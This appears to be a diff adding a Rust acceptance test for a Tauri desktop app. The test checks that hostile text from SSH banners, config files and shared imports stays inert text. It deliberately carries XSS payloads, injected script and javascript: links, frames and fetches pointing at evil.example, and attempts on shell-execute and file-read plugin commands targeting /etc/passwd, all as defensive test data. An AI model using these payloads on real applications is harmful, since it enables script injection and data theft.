@@ -1,0 +1,341 @@
+//! Everything that somebody else can write, shown in the real webview: it stays text.
+
+mod sow;
+mod spy;
+mod texts;
+
+use std::fs;
+use std::time::Duration;
+
+use acceptance::agent::Agent;
+use acceptance::desk::Desk;
+use acceptance::keyring::Keyring;
+use acceptance::sshd::Sshd;
+use acceptance::stage::{EMAIL, PASSWORD, Stage};
+use serde_json::json;
+use slipway_protocol::api;
+
+use crate::person;
+use sow::Sown;
+use texts::MARK;
+
+const SHORT: Duration = Duration::from_secs(30);
+
+/// NFR-S7: a script, an event, an address, a template, a code of a terminal or a character that turns or hides the text is text and nothing
+/// else, wherever a tenant, a container, a git host or a file can put it: no call of the shell is made that nobody has asked for, nothing
+/// is loaded, opened or sent, the policy is never needed, and what hides is written out. That the policy would hold is tried, too.
+#[tokio::test(flavor = "multi_thread")]
+async fn hostile_text_stays_text() {
+    let stage = Stage::around(
+        Agent::start().await,
+        Sshd::start_with_banner(&texts::all().join("\n")).await,
+    )
+    .await;
+    let sown = sow::everything(&stage).await;
+    let keyring = Keyring::start().await;
+    let desk = Desk::open(&keyring).await;
+    desk.see("fleet").await;
+    spy::install(&desk).await;
+
+    imports_hosts(&desk, &stage.sshd).await;
+    let cluster = moves_in(&desk, &stage).await;
+    let before = audited(&stage).await;
+    imports_a_file(&desk).await;
+    visits(&desk, &cluster, &sown).await;
+    assert_eq!(audited(&stage).await, before, "looking at it changed something");
+    opens(&desk, &cluster, &sown).await;
+    calm(&desk, "at the end", true).await;
+    breaks_in(&desk).await;
+    desk.close().await;
+}
+
+async fn audited(stage: &Stage) -> usize {
+    let all = stage.connection.send(api::ListAudit {}).await;
+    all.expect("the audit log").len()
+}
+
+/// The page is as it should be, and nothing was done behind the person's back. After a press its own call may be among them.
+async fn calm(desk: &Desk, place: &str, pressed: bool) -> usize {
+    let wrong = spy::wrong(desk).await;
+    assert!(wrong.is_empty(), "{place}: {wrong:#?}");
+    for list in ["csp", "away"] {
+        let written = spy::written(desk, list).await;
+        assert!(written.is_empty(), "{place}: {list} {written:#?}");
+    }
+    let calls = spy::written(desk, "calls").await;
+    let unasked: Vec<&String> = calls.iter().filter(|call| !spy::only_looks(call)).collect();
+    assert!(
+        pressed || unasked.is_empty(),
+        "{place}: nobody asked for {unasked:?}"
+    );
+    assert_eq!(
+        desk.client().windows().await.expect("windows").len(),
+        1,
+        "{place}: one window"
+    );
+    calls.len()
+}
+
+/// Hosts of `~/.ssh/config`.
+async fn imports_hosts(desk: &Desk, sshd: &Sshd) {
+    let folder = desk.home().join(".ssh");
+    fs::create_dir_all(&folder).expect("the folder");
+    let hosts: Vec<String> = texts::all()
+        .iter()
+        .enumerate()
+        .map(|(number, text)| {
+            format!(
+                "Host h{number}{}\n HostName {text}\n User {text}\n Port {}\n",
+                text.replace(' ', ""),
+                sshd.port()
+            )
+        })
+        .collect();
+    fs::write(folder.join("config"), hosts.join("")).expect("the file");
+    desk.press("import-ssh-config").await;
+    desk.wait_until_says("import-preview", MARK, SHORT).await;
+    calm(desk, "an imported configuration", true).await;
+    desk.press_escape().await;
+    desk.gone("import-dialog").await;
+}
+
+/// A file that somebody shared.
+async fn imports_a_file(desk: &Desk) {
+    desk.press("rail-fleet").await;
+    desk.press("import-file").await;
+    let clusters: Vec<serde_json::Value> = texts::all()
+        .iter()
+        .map(|text| json!({ "name": text, "host": text, "port": 22, "user": "root", "group": text, "tag": text }))
+        .collect();
+    let text = format!(
+        "slipway_connections = 1\n{}",
+        clusters.iter().map(as_toml).collect::<String>()
+    );
+    let typed = "const [id, text] = arguments; const one = document.querySelector(`[data-testid=\"${id}\"]`);
+        one.value = text; one.dispatchEvent(new InputEvent('input', { bubbles: true }))";
+    desk.see("import-text").await;
+    let arguments = vec![json!("import-text"), json!(text)];
+    desk.client()
+        .execute(typed, arguments)
+        .await
+        .expect("it is pasted");
+    desk.wait_until_says("import-preview", MARK, SHORT).await;
+    calm(desk, "a shared file", true).await;
+    desk.press_escape().await;
+    desk.gone("import-dialog").await;
+}
+
+fn as_toml(cluster: &serde_json::Value) -> String {
+    let fields = cluster.as_object().into_iter().flatten();
+    // A JSON string is a TOML one, but for DEL, which TOML wants escaped.
+    let lines: Vec<String> = fields
+        .map(|(key, value)| format!("{key} = {}\n", value.to_string().replace('\u{7f}', "\\u007f")))
+        .collect();
+    format!(
+        "[[cluster]]\n{}[cluster.auth]\nmethod = \"agent\"\n",
+        lines.join("")
+    )
+}
+
+/// Adds the cluster, whose server greets with a hostile banner, and signs in. Gives the cluster's address in the window.
+async fn moves_in(desk: &Desk, stage: &Stage) -> String {
+    desk.press("add-cluster").await;
+    let name = "<img src=x onerror=window.__owned=30>";
+    person::describe_cluster(desk, name, &stage.sshd, &stage.agent.socket()).await;
+    desk.press("connect").await;
+    desk.see("host-key-accept").await;
+    calm(desk, "the question about the host key", true).await;
+    desk.press("host-key-accept").await;
+    desk.fill("sign-in-email", EMAIL).await;
+    desk.fill("sign-in-password", PASSWORD).await;
+    desk.press("sign-in-submit").await;
+    desk.wait_until_says("projects", MARK, SHORT).await;
+    calm(desk, "the first page", true).await;
+    let url = desk.client().current_url().await.expect("an address");
+    let page = url.fragment().expect("a page").trim_end_matches('/').to_owned();
+    format!("#{page}")
+}
+
+/// Every page that shows what others have written, by its address alone: nothing is pressed.
+async fn visits(desk: &Desk, cluster: &str, sown: &Sown) {
+    let app = format!("{cluster}/app/{}", sown.application);
+    let of = |scope: &slipway_protocol::Scope| format!("{cluster}/variables/{scope}");
+    let pages = [
+        ("#/".to_owned(), "fleet", MARK),
+        ("#/settings".to_owned(), "settings-page", "Host keys"),
+        ("#/settings/host-keys".to_owned(), "host-keys-page", "127.0.0.1"),
+        (cluster.to_owned(), "projects", MARK),
+        (format!("{cluster}/people"), "people", MARK),
+        (format!("{cluster}/audit"), "audit", MARK),
+        (format!("{cluster}/health"), "health", "Swarm"),
+        (format!("{cluster}/registries"), "registries", MARK),
+        (of(&sown.team), "variables-page", MARK),
+        (of(&sown.project), "variables-page", MARK),
+        (of(&sown.environment), "variables-page", MARK),
+        (app.clone(), "app-page", MARK),
+        (format!("{app}/deployments"), "app-page", MARK),
+        (format!("{app}/logs"), "container-log", MARK),
+        (format!("{app}/variables"), "app-page", MARK),
+        (format!("{app}/files"), "app-page", MARK),
+        (format!("{app}/domains"), "app-page", "example.org"),
+        (format!("{app}/settings"), "settings-save", "Save"),
+        (
+            format!("{cluster}/deployment/{}", sown.good),
+            "deployment-page",
+            MARK,
+        ),
+        (
+            format!("{cluster}/deployment/{}", sown.failed),
+            "deployment-failure",
+            MARK,
+        ),
+    ];
+    let mut heard = 0;
+    for (address, id, words) in pages {
+        go(desk, &address).await;
+        holds(desk, id, words).await;
+        // The page's other answers come meanwhile.
+        tokio::time::sleep(Duration::from_millis(400)).await;
+        heard += calm(desk, &address, false).await;
+        match id {
+            "container-log" => desk.shots("hostile-log").await,
+            "deployment-failure" => desk.shots("hostile-deployment").await,
+            _ => {}
+        }
+    }
+    assert!(heard > 40, "the spy hears the calls: {heard}");
+}
+
+/// The element has these words, also where they are cut off by its cell: the driver tells only what can be seen whole.
+async fn holds(desk: &Desk, id: &str, words: &str) {
+    let script = "const one = document.querySelector(`[data-testid=\"${arguments[0]}\"]`);
+        return one !== null && one.textContent.includes(arguments[1])";
+    acceptance::wait::until(&format!("{id} holds “{words}”"), SHORT, async || {
+        let held = desk.client().execute(script, vec![json!(id), json!(words)]).await;
+        held.is_ok_and(|held| held.as_bool() == Some(true))
+    })
+    .await;
+}
+
+async fn go(desk: &Desk, address: &str) {
+    let script = "location.hash = arguments[0]";
+    desk.client()
+        .execute(script, vec![json!(address)])
+        .await
+        .expect("an address");
+}
+
+/// What is shown after a press: dialogs, the palette, a line's details, a field that holds what cannot be seen.
+async fn opens(desk: &Desk, cluster: &str, sown: &Sown) {
+    let app = format!("{cluster}/app/{}", sown.application);
+    go(desk, &app).await;
+    desk.wait_until_says("drift", MARK, SHORT).await;
+    desk.press("pending-plan").await;
+    desk.wait_until_says("plan-view", MARK, SHORT).await;
+    calm(desk, "the plan", true).await;
+    desk.press_escape().await;
+
+    go(desk, &format!("{cluster}/deployment/{}", sown.failed)).await;
+    desk.press("compare").await;
+    desk.see("compare-dialog").await;
+    calm(desk, "the comparison", true).await;
+    desk.press_escape().await;
+
+    go(desk, &format!("{app}/variables")).await;
+    desk.press("variables-text").await;
+    desk.see("variables-area").await;
+    let said = desk
+        .find(".as-text", SHORT)
+        .await
+        .text()
+        .await
+        .unwrap_or_default();
+    assert!(
+        said.contains("cannot be seen here") && said.contains("U+202E"),
+        "{said}"
+    );
+    calm(desk, "variables as a text", true).await;
+
+    go(desk, &format!("{app}/files")).await;
+    let row = desk.find("[data-testid^=\"file-open-\"]", SHORT).await;
+    row.click().await.expect("a press");
+    // What cannot be shown truly as text is not shown to be changed.
+    holds(desk, "app-page", "no plain text").await;
+    calm(desk, "a file that is no text", true).await;
+    desk.press("file-open-/etc/plain").await;
+    desk.see("file-content").await;
+    calm(desk, "a file", true).await;
+
+    go(desk, &format!("{app}/logs")).await;
+    desk.wait_until_says("container-log", MARK, SHORT).await;
+    desk.find(".log-row:last-child .log-time", SHORT)
+        .await
+        .click()
+        .await
+        .expect("a press");
+    desk.see("log-details").await;
+    calm(desk, "a line of the log", true).await;
+
+    desk.press("find-anything").await;
+    desk.fill("palette-input", MARK).await;
+    desk.wait_until_says("palette", MARK, SHORT).await;
+    calm(desk, "the palette", true).await;
+    desk.keys("\u{e00c}").await;
+    desk.gone("palette").await;
+
+    go(desk, cluster).await;
+    let menu = desk.find("[data-testid^=\"project-menu-<\"]", SHORT).await;
+    menu.click().await.expect("a press");
+    let delete = desk.find("[data-testid^=\"delete-project-<\"]", SHORT).await;
+    delete.click().await.expect("a press");
+    desk.see("project-delete-dialog").await;
+    calm(desk, "a question before deleting", true).await;
+    desk.press_escape().await;
+}
+
+/// As if a hostile text had become markup after all: the policy lets none of it run or load, and the shell has no command but its own.
+async fn breaks_in(desk: &Desk) {
+    let markup = texts::markup().concat();
+    let script = "const one = document.createElement('div'); one.innerHTML = arguments[0]; document.body.append(one);
+        const script = document.createElement('script'); script.textContent = 'window.__owned = 40'; document.body.append(script);
+        const link = document.createElement('a'); link.href = 'javascript:window.__owned=41'; document.body.append(link); link.click();
+        const frame = document.createElement('iframe'); frame.src = 'https://evil.example/'; document.body.append(frame);
+        const away = document.createElement('a'); away.href = 'https://evil.example/'; document.body.append(away); away.click();";
+    desk.client()
+        .execute(script, vec![json!(markup)])
+        .await
+        .expect("it is laid in");
+    acceptance::wait::until("the policy reports what it refused", SHORT, async || {
+        let seen = "return window.__spy.csp.length";
+        let count = desk.client().execute(seen, Vec::new()).await.expect("reports");
+        count.as_u64() > Some(4)
+    })
+    .await;
+    // A redirect would be under way by now; the page that was watched is still the one that is shown.
+    tokio::time::sleep(Duration::from_millis(500)).await;
+    let owned = "return window.__spy ? String(window.__owned) : 'another page'";
+    let owned = desk.client().execute(owned, Vec::new()).await.expect("a look");
+    assert_eq!(owned.as_str(), Some("undefined"), "the policy let it run");
+    let reports = spy::written(desk, "csp").await.join("\n");
+    for directive in ["script-src", "style-src", "frame-src"] {
+        assert!(reports.contains(directive), "{directive} in {reports}");
+    }
+    let tried = "const done = arguments[0]; const names = ['plugin:opener|open_url', 'plugin:opener|open_path', 'plugin:fs|read_file', 'plugin:shell|execute',
+          'plugin:window|create', 'plugin:webview|create_webview_window', 'plugin:event|emit', 'plugin:app|version', 'plugin:path|resolve_directory',
+          'plugin:process|exit', 'no_such_command'];
+        const call = (name) => window.__TAURI__.core.invoke(name, { url: 'https://evil.example', path: '/etc/passwd', args: '{}' }).then(() => name, () => null);
+        Promise.all(names.map(call)).then((all) => done(all.filter(Boolean)))";
+    let answered = desk
+        .client()
+        .execute_async(tried, Vec::new())
+        .await
+        .expect("calls");
+    assert_eq!(answered, json!([]), "a command of the system answered");
+    let away = "const done = arguments[0]; fetch('https://evil.example/').then(() => done('sent'), () => done('refused'))";
+    let away = desk
+        .client()
+        .execute_async(away, Vec::new())
+        .await
+        .expect("a call");
+    assert_eq!(away, json!("refused"));
+}
